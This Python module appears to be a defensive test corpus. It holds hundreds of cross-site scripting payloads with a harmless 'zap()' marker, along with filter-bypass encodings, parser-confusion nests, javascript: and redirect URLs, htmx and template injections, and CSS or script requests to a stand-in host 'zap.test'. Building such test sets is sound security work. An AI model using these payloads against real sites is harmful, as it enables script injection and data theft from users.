"""Words that would run as code wherever a page took them for more than words: our own corpus.

Each says in some way `zap`, which stands nowhere in the house, and is written for one careless
place (`careless_places.py`). Most have at most 40 letters, so that they fit into a name as well.
"""

from collections.abc import Iterator
from typing import Final

# ── carriers and the ways of writing what they carry ─────────────────────────

RUNS_BY_ITSELF: Final = (
    "<svg onload={}>",
    "<img src=x onerror={}>",
    "<body onload={}>",
    "<iframe onload={}>",
    "<details open ontoggle={}>",
    "<audio src=x onerror={}>",
    "<script>{}</script>",
)
CALLS: Final = (
    "zap()",
    "zap``",
    "zap?.()",
    "!zap()",
    "new+zap",
    "self.zap()",
    "self['zap']()",
    "self['za'+'p']()",
    r"self['\x7aap']()",
    r"\u007aap()",
    r"\u{7a}ap()",
    "[1].map(zap)",
    "eval('zap()')",
    "setTimeout(zap)",
    "Function('zap()')()",
    "zap/**/()",
)
# Only an attribute reads these.
ENTITIES: Final = (
    "&#122;ap()",
    "&#x7A;ap()",
    "&#0000122;ap()",
    "z&#97p()",
    "zap&#40;&#41;",
    "zap&lpar;&rpar;",
    "zap&#x28&#x29",
    "&#122;&#97;&#112;()",
)
# Whoever reads them is pressed, pointed at or scrolled by.
WAITS_FOR_SOMEBODY: Final = (
    *("click", "dblclick", "auxclick", "contextmenu", "mouseover", "mousemove", "pointerenter"),
    *("pointermove", "touchstart", "wheel", "scroll", "keydown", "input", "change", "select"),
    *("focus", "blur", "copy", "cut", "paste", "dragstart", "drop", "submit", "reset", "invalid"),
    *("animationstart", "transitionend", "beforetoggle", "cancel", "securitypolicyviolation"),
)
SVG: Final = "<svg onload=zap()>"

# ── what is written for each place ───────────────────────────────────────────

BETWEEN_TAGS: Final = (
    # Letters, gaps and signs that a filter may not know.
    "<SVG ONLOAD=zap()>",
    "<sVg oNlOaD=zap()>",
    "<svg/onload=zap()>",
    "<svg/x/onload=zap()>",
    "<svg\tonload=zap()>",
    "<svg\nonload=zap()>",
    "<svg\fonload=zap()>",
    "<svg\ronload=zap()>",
    "<svg onload =zap()>",
    "<svg onload\n=\tzap()>",
    '<svg onload="zap()">',
    "<svg onload='zap()'>",
    "<svg onload=zap()//",
    "<<svg onload=zap()>",
    "<svg onload=zap\u00a0()>",
    "<svg onload=zap\ufeff()>",
    "<svg onload=zap() onload=x>",
    "<svg x='>' onload=zap()>",
    "<sv\u200bg onload=zap()>",
    "\u202e<svg onload=zap()>",
    "\u2066<img src=x onerror=zap()>\u2069",
    "\ufeff<svg onload=zap()>",
    "<svg\x00 onload=zap()>",
    "<\x00svg><svg onload=zap()>",
    "<ScRiPt>zap()</sCrIpT>",
    "<script >zap()</script >",
    "<script/x>zap()</script/x>",
    "<script\n>zap()</script\n>",
    "<script type=module>zap()</script>",
    "<script src=data:,zap()></script>",
    "<scr<script>ipt>zap()</script>",
    "<script><!--zap()\n--></script>",
    # Elements that run, or fetch, in ways of their own.
    "<body onpageshow=zap()>",
    "<image src=x onerror=zap()>",
    "<video src=x onerror=zap()>",
    "<video><source onerror=zap()>",
    "<input type=image src=x onerror=zap()>",
    "<object data=x onerror=zap()>",
    "<style onload=zap()></style>",
    "<link rel=stylesheet href=x onerror=zap()>",
    "<marquee onstart=zap()>",
    "<input autofocus onfocus=zap()>",
    "<select autofocus onfocus=zap()>",
    "<textarea autofocus onfocus=zap()>",
    "<b tabindex=1 autofocus onfocus=zap()>",
    "<svg><animate onbegin=zap()>",
    "<svg><set onbegin=zap() attributeName=x>",
    "<svg><image href=x onerror=zap()>",
    "<svg><script>zap()</script>",
    "<svg><script>&#122;ap()</script>",
    "<svg><script href=data:,zap() />",
    "<svg><a xlink:href=javascript:zap()>x",
    "<svg><use href=data:,zap />",
    "<math href=javascript:zap()>x",
    "<math><mi xlink:href=javascript:zap()>x",
    "<a href=javascript:zap()>x",
    "<a href=JaVaScRiPt:zap()>x",
    "<a href=java&Tab;script:zap()>x",
    "<a href=javascript&colon;zap()>x",
    "<a href=data:text/html,zap>x",
    "<form action=javascript:zap()><button>x",
    "<button formaction=javascript:zap()>x",
    "<input type=submit formaction=//zap.test>",
    "<iframe src=javascript:parent.zap()>",
    "<iframe srcdoc='<svg onload=parent.zap()>'>",
    "<iframe srcdoc=&lt;svg/onload=parent.zap()&gt;>",
    "<iframe src=data:text/html,zap>",
    "<object data=data:text/html,zap>",
    "<embed src=data:text/html,zap>",
    "<template shadowrootmode=open><svg onload=zap()></template>",
    "<dialog open onclose=zap()>",
    # Nests in which a parser puts things elsewhere than they were written.
    "<table><svg onload=zap()>",
    "<table><tr><svg onload=zap()>",
    "<svg><style><img src=x onerror=zap()>",
    "<math><style><img src=x onerror=zap()>",
    "<svg><title><svg onload=zap()>",
    "<svg><desc><svg onload=zap()>",
    "<svg><p><svg onload=zap()>",
    "<math><mi><svg onload=zap()>",
    "<math><mtext><img src=x onerror=zap()>",
    "<svg><foreignObject><svg onload=zap()>",
    "<noscript><p title='</noscript><svg onload=zap()>'>",
    "<title><p title='</title><svg onload=zap()>'>",
    "<xmp><p title='</xmp><svg onload=zap()>'>",
    "<style><p title='</style><svg onload=zap()>'>",
    "<form><form><svg onload=zap()>",
    "<b><p></b><svg onload=zap()>",
    "<a><a><svg onload=zap()>",
    "<svg><![CDATA[>]]><svg onload=zap()>",
    "<!--><svg onload=zap()>-->",
    "<!--x--!><svg onload=zap()>",
    "<?x><svg onload=zap()>",
    "<!x><svg onload=zap()>",
    "</x><svg onload=zap()>",
    # Questions to somebody else's house.
    "<img src=//zap.test>",
    "<img srcset=//zap.test>",
    "<link rel=stylesheet href=//zap.test>",
    "<link rel=preload as=image href=//zap.test>",
    "<link rel=prefetch href=//zap.test>",
    "<link rel=preconnect href=//zap.test>",
    "<script src=//zap.test></script>",
    "<video poster=//zap.test>",
    "<audio src=//zap.test autoplay>",
    "<body background=//zap.test>",
    "<iframe src=//zap.test>",
    "<object data=//zap.test>",
    "<embed src=//zap.test>",
    "<svg><image href=//zap.test>",
    "<svg><feImage href=//zap.test>",
    "<a href=/ ping=//zap.test>x",
    "<base href=//zap.test>",
    "<form action=//zap.test><button>x",
    "<meta http-equiv=refresh content=0;//zap.test>",
    "<meta name=referrer content=unsafe-url id=zap>",
    "<style>@import'//zap.test'</style>",
    "<style>*{background:url(//zap.test)}</style>",
    "<style>[value^=a]{cursor:url(//zap.test)}</style>",
    "<p style=background:url(//zap.test)>x",
    "<p style=position:fixed;--zap:0>x",
    # Names that the page's own code may look for.
    "<a id=zap>",
    "<a id=zap name=zap href=x:zap>",
    "<form id=zap><input name=children>",
    "<img name=querySelector id=zap>",
    "<iframe name=zap>",
    "<p id=room-data class=zap>{}</p>",
    "<script id=room-data class=zap>{}</script>",
    "<form data-part=status class=zap>",
    "<b data-part=report-seats class=zap>",
    "<input name=csrfmiddlewaretoken value=x id=zap>",
    "<input name=next value=//zap.test class=zap>",
    # Elements of our own, and of htmx.
    "<live-room class=zap>",
    "<table-room class=zap>",
    "<copy-link data-text=zap>",
    "<passkey-door data-options=//zap.test>",
    "<passkey-maker class=zap>",
    "<b hx-get=/zap hx-trigger=load>",
    "<b hx-get=//zap.test hx-trigger=revealed>",
    "<b data-hx-get=/zap data-hx-trigger=load>",
    "<b hx-on:click=zap()>x",
    "<b hx-on::load=zap()>x",
    "<b hx-on--load=zap()>x",
    "<b data-hx-on:click=zap()>x",
    "<b hx-trigger=click[zap()] hx-get=/>",
    "<b hx-vals=js:{x:zap()} hx-get=/>",
    "<b hx-headers=js:{x:zap()} hx-get=/>",
    "<b hx-vars=x:zap() hx-get=/>",
    "<b hx-swap-oob=true id=presence class=zap>",
    "<b hx-boost=true hx-target=body class=zap>",
    "<b hx-ext=zap>",
    "<meta name=htmx-config content=zap>",
    # Several places at once.
    "'\"><svg onload=zap()>",
    "`'\"><svg onload=zap()>",
    "'\"--></title></style></script><svg onload=zap()>",
    "javascript:/*'\"><svg onload=zap()>*/",
    "*/zap()//'\"><img src=x onerror=zap()>",
    "{{zap}}'\"><svg onload=zap()>",
    "</script><!--\"'><svg/onload=`${zap()}`>",
)
QUOTED: Final = (
    "{q}><svg onload=zap()>",
    "{q}/><script>zap()</script>",
    "{q} onfocus=zap() autofocus x={q}",
    "{q}onfocus={q}zap(){q} autofocus x={q}",
    "{q}\tonmouseover=zap()\tx={q}",
    "{q}\nonclick=zap()\nx={q}",
    "{q}/onpointerover=zap()/x={q}",
    "{q} type=image src=x onerror=zap() x={q}",
    "{q} formaction=javascript:zap() x={q}",
    "{q} style=background:url(//zap.test) x={q}",
    "{q} hx-on:click=zap() x={q}",
    "{q} hx-get=//zap.test x={q}",
    "{q} id=zap x={q}",
    "{q} accesskey=x onclick=zap() x={q}",
)
UNQUOTED: Final = (
    "x onfocus=zap() autofocus",
    "x\tonmouseover=zap()",
    "x\nonclick=zap()",
    "x\fonclick=zap()",
    "x><svg onload=zap()>",
    "x hx-on:click=zap()",
    "x style=color:red;--x:zap",
    "x id=zap",
    "x type=image src=x onerror=zap()",
)
ADDRESSES: Final = (
    "javascript:zap()",
    "JaVaScRiPt:zap()",
    " javascript:zap()",
    "\tjavascript:zap()",
    "\x01javascript:zap()",
    "java\tscript:zap()",
    "java\nscript:zap()",
    "javascript\t:zap()",
    "javascript://x%0Azap()",
    "javascript://x/%E2%80%A8zap()",
    "javascript:void(zap())",
    "javascript:/**/zap()",
    "javascript:%7aap()",
    "javascript:'<svg onload=parent.zap()>'",
    "&#106;avascript:zap()",
    "javascript&colon;zap()",
    "javascript&#58;zap()",
    "java&Tab;script:zap()",
    "data:text/html,<svg onload=zap()>",
    "data:text/html;base64,PHN2ZyBvbmxvYWQ9emFwKCk+",
    "data:,zap",
    "//zap.test",
    "///zap.test",
    "https://zap.test/",
    "https:zap.test",
    "http:/zap.test",
    "/\\zap.test",
    "\\\\zap.test",
    "/\t/zap.test",
    "/\n/zap.test",
    "//localhost@zap.test",
    "http://localhost:zap@zap.test/",
    "//zap.test\\@localhost/",
    "//zap.test#@localhost",
    "//zap.test?localhost",
    "vbscript:zap()",
    "blob:zap",
    "view-source:javascript:zap()",
)
IN_A_STRING: Final = (
    "{q};zap();//",
    "{q};zap();{q}",
    "{q}+zap()+{q}",
    "{q}-zap()-{q}",
    "{q},zap(),{q}",
    "{q}\nzap()//",
    "</script><svg onload=zap()>",
    "</ScRiPt ><svg onload=zap()>",
    "</script\n><script>zap()</script>",
)
IN_A_LITERAL: Final = (
    "${zap()}",
    "`+zap()+`",
    "`;zap();//",
    "${self.zap``}",
    "\u1fef+zap()+\u1fef",
)
IN_A_SCRIPT_COMMENT: Final = ("\nzap()", "\rzap()", "\u2028zap()", "\u2029zap()", "\r\nzap()//")
IN_JSON: Final = (
    "</script><script>zap()</script>",
    "</SCRIPT><svg onload=zap()>",
    "</script/><img src=x onerror=zap()>",
    '"}</script><svg onload=zap()>',
    "<!--<script></script><svg onload=zap()>",
)
IN_A_HANDLER: Final = (
    "');zap();//",
    "'+zap()+'",
    "'-zap()-'",
    "&#39;);zap();//",
    "&apos;+zap()+&apos;",
    "&#x27-zap()-&#x27",
)
IN_STYLE: Final = (
    "red}</style><svg onload=zap()>",
    "red;background:url(//zap.test)",
    "red}*{background:url(//zap.test)}",
    "red}@import '//zap.test';",
    "red}body:after{content:'zap'}",
)
IN_A_COMMENT: Final = (
    "--><svg onload=zap()>",
    "--!><svg onload=zap()>",
    "><svg onload=zap()>",
    "->zap<svg onload=zap()>",
)
RAW: Final = ("title", "textarea", "style", "noscript", "iframe", "xmp", "noembed", "noframes")
# What a server, a translation or `String.replace` would fill in or fall over.
FILLED_IN: Final = (
    "{{ zap }}",
    "{{ zap|safe }}",
    "{{ 7|add:7 }}zap",
    "{{ zap.__class__ }}",
    "{% now 'zap' %}",
    "{% debug %}zap",
    "{% include 'zap' %}",
    "{% load zap %}",
    "{% autoescape off %}zap",
    "{% comment %}zap{% endcomment %}",
    "{# zap #}",
    "{% verbatim %}{{ zap }}{% endverbatim %}",
)
BY_PERCENT: Final = ("%(zap)s", "%s zap", "%d zap", "%%zap", "%(name)s zap", "zap%", "%n zap")
BY_BRACES: Final = ("{zap}", "{0}zap", "{name}zap", "{{zap}}", "{name.__class__}zap", "zap}")
REPLACED: Final = ("$& zap", "$` zap", "$' zap", "$$ zap", "zap$&$&$&")


def _hostile() -> Iterator[tuple[str, str]]:
    """Each with the place that it is written for."""
    for carrier in RUNS_BY_ITSELF:
        is_script = carrier.startswith("<script")
        calls = CALLS if is_script else (*CALLS, *ENTITIES)
        yield from (("between tags", carrier.format(call)) for call in calls)
    yield from (("between tags", f"<b on{event}=zap()>x") for event in WAITS_FOR_SOMEBODY)
    for place, written in WRITTEN.items():
        yield from ((place, words) for words in written)
    for quote, place in (('"', "in double quotes"), ("'", "in single quotes")):
        yield from ((place, words.format(q=quote)) for words in QUOTED)
        yield from ((f"in a string {place}", words.format(q=quote)) for words in IN_A_STRING)
    for element in RAW:
        yield (f"in {element}", f"</{element}>{SVG}")
        yield (f"in {element}", f"</{element.upper()}\t>{SVG}")


WRITTEN: Final = {
    "between tags": BETWEEN_TAGS,
    "without quotes": UNQUOTED,
    "as an address": ADDRESSES,
    "in a literal": IN_A_LITERAL,
    "in a comment of a script": IN_A_SCRIPT_COMMENT,
    "in JSON": IN_JSON,
    "in a handler": IN_A_HANDLER,
    "as a colour": IN_STYLE,
    "in a comment": IN_A_COMMENT,
    "as a template": FILLED_IN,
    "as a format": BY_PERCENT,
    "in braces": BY_BRACES,
    "as a replacement": REPLACED,
}
# The words, and the careless place that takes each of them for more.
HOSTILE: Final = {words: place for place, words in _hostile()}
WORDS: Final = tuple(HOSTILE)


def packed(words: tuple[str, ...], longest: int, *, between: str = " ") -> tuple[str, ...]:
    """As many as fit into each text of so many letters; those that are longer are left out."""
    texts: list[str] = []
    for each in words:
        together = f"{texts[-1]}{between}{each}" if texts else each
        if texts and len(together) <= longest:
            texts[-1] = together
        elif len(each) <= longest:
            texts.append(each)
    return tuple(texts)
